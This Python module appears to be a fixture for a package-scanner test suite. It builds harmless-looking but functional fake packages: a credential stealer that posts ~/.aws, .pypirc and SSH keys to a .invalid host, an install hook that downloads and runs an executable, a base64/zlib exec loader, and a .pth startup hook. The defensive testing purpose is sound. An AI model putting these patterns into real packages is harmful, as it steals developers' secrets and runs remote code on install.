"""Harmless look-alikes of real attacks, made in code: nothing here works, no host here exists.

Each has the shape of an attack seen on an index, with `.invalid` and `.example` addresses.
"""

from __future__ import annotations

import base64
import io
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

THIEF = """\
import os
import urllib.request

for name in (".aws/credentials", ".pypirc", ".ssh/id_rsa"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.exists(path):
        with open(path, "rb") as file:
            urllib.request.urlopen("https://collect.invalid/drop", data=file.read())
"""

DOWNLOADER = """\
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        urllib.request.urlretrieve("https://files.invalid/helper.exe", "helper.exe")
        subprocess.Popen(["helper.exe"], creationflags=0x08000000)
        install.run(self)


setup(name="lookalike-downloader", version="1.0.0", cmdclass={"install": Install})
"""

HONEST = '''\
"""Reads the token its user configured and asks the service it is a client of."""

import os

import requests


def status(url):
    token = os.environ.get("STATUS_TOKEN", "")
    return requests.get(url, headers={"Authorization": f"Bearer {token}"}, timeout=10).json()
'''


def hidden(code: str) -> str:
    """Return a line that unpacks and runs code, as loaders in the wild do."""
    packed = base64.b64encode(zlib.compress(code.encode())).decode()
    return f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({packed!r})))\n"


def wheel(name: str, files: Mapping[str, str]) -> bytes:
    """Return a wheel with these files, its metadata and an honest RECORD."""
    info = f"{name}-1.0.0.dist-info"
    content = {
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    content[f"{info}/RECORD"] = "".join(f"{path},,\n" for path in [*content, f"{info}/RECORD"])
    return _zip(content)


def sdist(name: str, files: Mapping[str, str]) -> bytes:
    """Return an sdist with these files below its one folder."""
    content = {**files, "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0.0\n"}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in content.items():
            entry = tarfile.TarInfo(f"{name}-1.0.0/{path}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return buffer.getvalue()


def encrypted(name: str) -> bytes:
    """Return a wheel whose code is marked as encrypted: nobody can say what it does."""
    data = bytearray(wheel(name, {f"{name}/__init__.py": "print('hello')\n"}))
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + flags] |= 1
    return bytes(data)


def build(folder: Path) -> list[Path]:
    """Write the look-alikes into a folder and return their paths."""
    shapes = {
        "lookalike-downloader-1.0.0.tar.gz": sdist(
            "lookalike-downloader", {"setup.py": DOWNLOADER}
        ),
        "lookalike_loader-1.0.0-py3-none-any.whl": wheel(
            "lookalike_loader", {"lookalike_loader/__init__.py": hidden(THIEF)}
        ),
        "lookalike_startup-1.0.0-py3-none-any.whl": wheel(
            "lookalike_startup",
            {
                "lookalike_startup.pth": "import os; exec(os.environ.get('LOOKALIKE', ''))"
                "; import lookalike_startup.agent\n",
                "lookalike_startup/__init__.py": "",
                "lookalike_startup/agent.py": THIEF,
            },
        ),
        "lookalike_thief-1.0.0-py3-none-any.whl": wheel(
            "lookalike_thief", {"lookalike_thief/__init__.py": THIEF}
        ),
        "lookalike_sealed-1.0.0-py3-none-any.whl": encrypted("lookalike_sealed"),
        "honest_client-1.0.0-py3-none-any.whl": wheel(
            "honest_client", {"honest_client/__init__.py": HONEST}
        ),
    }
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in shapes.items():
        (folder / name).write_bytes(data)
    return [folder / name for name in shapes]


def _zip(content: Mapping[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in content.items():
            archive.writestr(zipfile.ZipInfo(path, (2020, 1, 1, 0, 0, 0)), text)
    return buffer.getvalue()
